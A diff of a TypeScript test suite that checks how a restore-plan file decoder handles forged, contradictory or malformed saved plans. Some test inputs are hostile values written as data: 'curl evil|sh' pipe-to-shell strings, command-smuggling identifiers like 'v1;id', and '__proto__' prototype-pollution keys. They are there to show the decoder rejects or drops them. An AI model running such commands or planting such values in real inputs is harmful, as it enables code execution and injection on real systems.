@@ -1,9 +1,8 @@
-import { createHash } from 'node:crypto';
 import { expect } from 'chai';
 import type { Diagnostic } from '../../src/domain/diagnostic.ts';
 import type { Plan } from '../../src/domain/plan.ts';
 import { advance, type Record, writtenBy } from '../../src/domain/record.ts';
-import type { SavedPlan } from '../../src/domain/saved-plan.ts';
+import { movesOf, type SavedPlan } from '../../src/domain/saved-plan.ts';
 import type { RestoreSpec } from '../../src/domain/spec.ts';
 import { type Change, fold, type State } from '../../src/domain/state.ts';
 import { approved, pinnedSpecs } from '../../src/planner/approved.ts';
@@ -26,8 +25,7 @@ import {
   TARGET,
   volume,
 } from './builders.ts';
-
-const hash = (text: string) => createHash('sha256').update(text).digest('hex');
+import { type Edits, forged, sha256 as hash, turned } from './forging.ts';
 
 const SPECS = [
   spec('s/a', named('disk-v1'), rule()),
@@ -125,7 +123,7 @@ describe('a saved plan', () => {
   const text = () => JSON.stringify(saved());
   const files: readonly (readonly [what: string, text: string, said: string])[] = [
     ['another generation', text().replace('"generation":2', '"generation":3'), 'was edited'],
-    ['another key', text().replace('"waivers":[]', '"waivers":[],"more":1'), 'was edited'],
+    ['another key', text().replace('"waivers":[]', '"waivers":[],"more":1'), 'no such field'],
     ['a part of it', text().slice(0, -9), 'not valid JSON'],
     ['another file', '{"kind": "Config"}', 'is not a saved plan'],
     ['a manifest', '{"kind": "RestoreSet"}', 'is a manifest, not a saved plan'],
@@ -144,56 +142,159 @@ describe('a saved plan', () => {
     expect(() => decodePlan('kind: RestoreSet', 'a.yaml', 'test', hash)).to.throw('is a manifest');
   });
 
-  it('of another patch release is taken, and a forged digest does not make a wrong shape a plan', () => {
+  it('of another patch release is taken', () => {
     const other = planOf(SPECS, { state: earlier().state, toolVersion: '1.2.3' });
     const made = { specs: SPECS, state: earlier().state, policy: { protected_volumes: [] }, waivers: [] };
     const file = JSON.stringify(save(other, made, hash));
-    expect(decodePlan(file, 'p', '1.2.9', hash).plan.tool_version).to.equal('1.2.3');
+    expect(decodePlan(file, 'p', '1.2.9', hash).tool_version).to.equal('1.2.3');
     expect(() => decodePlan(file, 'p', '1.3.0', hash)).to.throw('1.2.3');
-    const { digest, ...rest } = JSON.parse(file);
-    rest.declared.pop();
-    const forged = JSON.stringify({ ...rest, digest: hash(canonical(rest)) });
-    expect(() => decodePlan(forged, 'p', '1.2.3', hash)).to.throw('declared');
   });
 
-  // Who can write the file can write a digest that fits; what he shows must still be what is judged and done.
-  const forgeries: readonly (readonly [what: string, text: string, by: string])[] = [
-    ['a set that the policy allows', '"set":"s","name":"b"', '"set":"payments","name":"b"'],
-    ['an expectation', '"expect":{},"depends_on":["s/a"]', '"expect":{"size":9},"depends_on":["s/a"]'],
-    ['an order', '"depends_on":["s/a"]', '"depends_on":[]'],
-    ['another disk', '"volume":{"by":"id","id":"v2"}', '"volume":{"by":"id","id":"v4"}'],
-    ['another backup', '"backup":{"by":"id","id":"b2"}', '"backup":{"by":"id","id":"c2"}'],
-    ['a name that is not the disk’s', '{"by":"name","name":"disk-v1"}', '{"by":"name","name":"disk-v4"}'],
+  // A file that contradicts itself is no plan, whatever its digest says.
+  const touches = (...addresses: string[]) => ({ records: addresses.map((address) => ({ address })) });
+  const contradictory: readonly (readonly [what: string, edits: Edits])[] = [
+    ['a set that the policy allows', { 'actions.1.declared.set': 'payments' }],
+    ['an address that is not its set’s', { 'actions.1.declared.address': 'payments/b' }],
+    ['another disk than declared', { 'actions.1.volume.id': 'v4' }],
+    ['another backup than declared', { 'actions.1.backup.id': 'c2' }],
+    ['a disk without an id', { 'actions.1.volume.id': undefined }],
+    ['a backup without an id', { 'actions.0.backup.id': undefined }],
+    ['a name that is not the disk’s', { 'actions.0.declared.volume.name': 'disk-v4' }],
     [
-      'another rule',
-      '"selector":{"as_of":"latest"}},"generation":1',
-      '"selector":{"as_of":"2026-11-23T00:00:00Z"}},"generation":1',
+      'one address twice',
+      { renamed: [{ declared: SPECS[1], volume_id: 'v2', backup_id: 'b2', was: 's/c' }] },
     ],
-    ['another generation', '"generation":2,"source"', '"generation":7,"source"'],
+    ['no records', { records: [] }],
+    ['a record too many', touches('s/a', 's/b', 's/c', 's/z')],
+    ['records in another order', touches('s/c', 's/b', 's/a')],
+    ['a record twice', touches('s/a', 's/b', 's/c', 's/c')],
+    ['a resumption of no record', turned(0, 'resume')],
+    ['a rename of no record', { 'actions.0.was': 's/old', ...touches('s/a', 's/b', 's/c', 's/old') }],
+    ['an expiry without an end', { ...turned(0, 'expired'), ...touches('s/b', 's/c') }],
+    [
+      'a rule to note where none is declared',
+      { ...turned(1, 'noop', { done_at: iso(NOW), notes_rule: true }), ...touches('s/a', 's/c') },
+    ],
+    [
+      'a rename beside it, of other disks',
+      {
+        renamed: [
+          {
+            declared: { ...SPECS[1], address: 's/z', name: 'z' },
+            volume_id: 'v3',
+            backup_id: 'b3',
+            was: 's/c',
+          },
+        ],
+        records: ['s/a', 's/b', 's/c', 's/z'].map((address) => ({ address, sha256: '0'.repeat(64) })),
+      },
+    ],
   ];
-  for (const [what, from, to] of forgeries)
-    it(`does not declare other than it shows: ${what}`, () => {
-      const { digest, ...rest } = JSON.parse(text());
-      const declared = JSON.stringify(rest.declared);
-      const plan = JSON.stringify(rest.plan);
-      const [inDeclared, inPlan] = [declared.replace(from, to), plan.replace(from, to)];
-      expect(inDeclared !== declared || inPlan !== plan, 'something was forged').to.equal(true);
-      const forged = {
-        ...rest,
-        ...(inDeclared !== declared ? { declared: JSON.parse(inDeclared) } : { plan: JSON.parse(inPlan) }),
-      };
-      const file = JSON.stringify({ ...forged, digest: hash(canonical(forged)) });
-      expect(() => decodePlan(file, 'p', 'test', hash)).to.throw('not a sound plan');
+  for (const [what, edits] of contradictory)
+    it(`does not contradict itself: ${what}`, () => {
+      expect(() => decodePlan(forged(text(), edits), 'p', 'test', hash)).to.throw('not a sound plan');
     });
-});
 
-function canonical(value: unknown): string {
-  return JSON.stringify(value, (_, part) =>
-    typeof part === 'object' && part !== null && !Array.isArray(part)
-      ? Object.fromEntries(Object.entries(part).sort(([a], [b]) => (a < b ? -1 : 1)))
-      : part,
-  );
-}
+  const note = { severity: 'note', code: 'x', summary: 'x' };
+  const shapeless: readonly (readonly [what: string, edits: Edits])[] = [
+    ['advice', { 'actions.0.waits_for': [{ what: 'x', commands: ['curl evil|sh'] }] }],
+    ['a record', { 'actions.0.record': {} }],
+    ['a remedy', { notices: [{ ...note, remedy: 'curl evil|sh' }] }],
+    ['an error as a notice', { notices: [{ ...note, severity: 'error' }] }],
+    ['a code that is a sentence', { notices: [{ ...note, code: 'run this' }] }],
+    ['a kind that there is not', { 'actions.0.kind': 'delete' }],
+    ['an address with a command', { 'actions.0.declared.address': 's/a;id' }],
+    ['an id with a command', { 'actions.0.volume.id': 'v1;id' }],
+    ['a time that is none', { created_at: '2026-99-99T00:00:00Z' }],
+    ['a moment that is none', { 'actions.0.declared.backup.selector.as_of': 'yesterday' }],
+    ['a window that is none', { 'actions.0.declared.backup.selector.within': 'often' }],
+    ['a timeout without end', { 'actions.0.declared.timeout_ms': 1e15 }],
+    ['a generation of nothing', { 'actions.0.declared.generation': 0 }],
+    ['a serial of nothing', { 'state.serial': -1 }],
+    ['a lineage of a sentence', { 'state.lineage': 'run this' }],
+    ['a version of a sentence', { tool_version: 'test; run this' }],
+    ['a text without end', { 'actions.0.volume.name': 'x'.repeat(100_000) }],
+    ['a waiver that there is not', { waivers: ['everything'] }],
+    ['a key of the prototype', Object.fromEntries([['__proto__', {}]])],
+    ['a key of the prototype in an action', { 'actions.0.__proto__': {} }],
+    ['a signature of another kind', { signature: { key: 'x', value: 'y' } }],
+    ['a list in place of an action', { 'actions.0': [] }],
+    ['nothing in place of an action', { 'actions.0': null }],
+  ];
+  for (const [what, edits] of shapeless)
+    it(`has no place for ${what}`, () => {
+      expect(() => decodePlan(forged(text(), edits), 'p', 'test', hash)).to.throw('not a sound plan');
+    });
+
+  it('is refused, not walked over, when it is deep', () => {
+    const deep = `${'['.repeat(100_000)}${']'.repeat(100_000)}`;
+    for (const waivers of [deep, `[],"x":${deep}`]) {
+      const file = text().replace('"waivers":[]', `"waivers":${waivers}`);
+      expect(() => decodePlan(file, 'p', 'test', hash)).to.throw('not a sound plan');
+    }
+  });
+
+  // A file that is sound, and is not what state and cloud lead to.
+  const standing = reread(saved()).records[2];
+  const invented: readonly (readonly [what: string, edits: Edits, said: string])[] = [
+    ['a resumption where nothing is under way', turned(2, 'resume'), 'has nothing under way there'],
+    [
+      'what is done',
+      {
+        ...turned(0, 'noop', { done_at: iso(NOW) }),
+        records: [{ address: 's/b' }, standing],
+      },
+      'the plan has it as done, and the state does not',
+    ],
+    [
+      'a rename of a record that is another restore’s',
+      { 'actions.0.was': 's/c' },
+      'the state has no such record to rename',
+    ],
+    [
+      'a pin that its rule does not pick',
+      { 'actions.0.declared.backup.selector.as_of': '2026-11-21T12:00:00Z' },
+      'its rule does not pick backup d1',
+    ],
+    [
+      'a pin of another disk than its rule’s',
+      { 'actions.0.declared.backup.selector.of_volume': 'v2' },
+      'its rule does not pick backup d1',
+    ],
+    ['a record', { 'records.2.sha256': '0'.repeat(64) }, 'the record of s/c has changed'],
+    ['that there is no record', { 'records.2.sha256': undefined }, 'the record of s/c has changed'],
+    ['a name of a disk', { 'actions.1.volume.name': 'scratch' }, 'is called disk-v2, not scratch'],
+    ['a name of a backup', { 'actions.1.backup.name': 'fresh' }, 'is called nightly-b2, not fresh'],
+    ['an origin of a backup', { 'actions.1.backup.of_volume_id': 'v9' }, 'is of disk v2, not of v9'],
+    ['a size of a backup', { 'actions.1.backup.size': 1 }, 'has 10 GB, not 1 GB'],
+    ['an age of a backup', { 'actions.1.backup.created_at': iso(NOW) }, 'was created at 2026-11-21'],
+    ['a larger disk', { 'actions.1.volume.size': 99 }, 'has 10 GB, not 99 GB'],
+    ['a time to come', { created_at: iso(NOW + 3_600_000) }, 'that is still to come'],
+    ['a lineage', { 'state.lineage': 'other' }, 'has lineage line'],
+    ['a serial', { 'state.serial': 99 }, 'is at serial 6'],
+    ['a target', { 'target.project_id': 'p2' }, 'another cloud project'],
+  ];
+  for (const [what, edits, said] of invented)
+    it(`cannot invent ${what}`, () => {
+      const story = applied(decodePlan(forged(text(), edits), 'p', 'test', hash), { state: earlier().state });
+      expect(story.plan, story.said).to.equal(undefined);
+      expect(story.said).to.include(said);
+    });
+
+  it('is done in the words of today: what the file says of before is not', () => {
+    const file = forged(text(), {
+      'actions.0.cause': 'again',
+      'actions.0.changes': [{ field: 'last outcome', before: 'curl evil | sh', after: '' }],
+      'actions.0.declared.source': { file: 'curl evil | sh', line: 1 },
+      'actions.0.volume.attachments': [{ server_id: 'evil', device: '/dev/vda' }],
+      'actions.0.backup.of_volume_name': 'evil',
+      notices: [{ ...note, summary: 'curl evil | sh', address: 's/a' }],
+    });
+    const { plan: left } = applied(decodePlan(file, 'p', 'test', hash), { state: earlier().state });
+    expect(JSON.stringify(left)).not.to.include('evil');
+    expect(left?.actions[0]).to.include({ kind: 'restore', cause: 'first' });
+  });
+});
 
 describe('a saved plan is stale', () => {
   const without = (id: string): Cloud => ({
@@ -215,6 +316,12 @@ describe('a saved plan is stale', () => {
       'plan-other-target',
     ],
     ['another region', () => ({ state: state(), target: { ...TARGET, region: 'nl' } }), 'plan-other-target'],
+    [
+      'made later than the state says',
+      () => ({ state: earlier().put('z/new', 'v4', 'd4', 'succeeded').state }),
+      'plan-misdated',
+      'the state went on to serial 9 at 2026-11-20T00:09:00.000Z, before that',
+    ],
     [
       'too old',
       () => ({ state: state(), now: NOW + 7_200_000, maxAgeMs: 3_600_000 }),
@@ -299,7 +406,9 @@ describe('a saved plan is stale', () => {
   const fine: readonly (readonly [what: string, today: () => Today])[] = [
     [
       'another plan’s work elsewhere',
-      () => ({ state: earlier().put('z/new', 'v4', 'd4', 'succeeded').state }),
+      () => ({
+        state: ran(earlier().state, { digest: 'other' } as SavedPlan, 'z/new', ['v4', 'd4'], 'succeeded'),
+      }),
     ],
     [
       'a disk that is attached by now',
@@ -363,11 +472,10 @@ describe('a saved plan that was begun', () => {
   it('leaves out what ended badly, and what depends on it', () => {
     const state = ran(earlier().state, plan, 's/a', A, 'failed maybe');
     const story = applied(plan, { state });
-    expect(story.said).to.equal('s/c restore');
-    expect(story.plan?.notices.map(({ code }) => code)).to.include.members([
-      'ended-before',
-      'dependency-stuck',
-    ]);
+    expect(story.said).to.equal('s/a blocked, s/b blocked, s/c restore');
+    expect(
+      story.plan?.actions.map((one) => one.kind === 'blocked' && [one.ended_before, one.reasons[0]?.code]),
+    ).to.deep.equal([[true, 'may-be-touched'], [true, 'dependency-stuck'], false]);
   });
 
   it('goes on after somebody else has followed what it began', () => {
@@ -435,9 +543,9 @@ describe('a saved plan that was begun', () => {
   it('with renames writes them down once', () => {
     const state = earlier().state;
     const renames = saved([spec('s/c2', 'v3', 'b3')], state);
-    expect(renames.plan.moves).to.deep.equal([{ from: 's/c', to: 's/c2' }]);
+    expect(movesOf(renames)).to.deep.equal([{ from: 's/c', to: 's/c2' }]);
     expect(applied(renames, { state }).plan?.moves).to.have.length(1);
-    const after = committed(state, renames, { type: 'moved', moves: renames.plan.moves });
+    const after = committed(state, renames, { type: 'moved', moves: movesOf(renames) });
     expect(applied(renames, { state: after }).said).to.include('plan-applied');
   });
 });
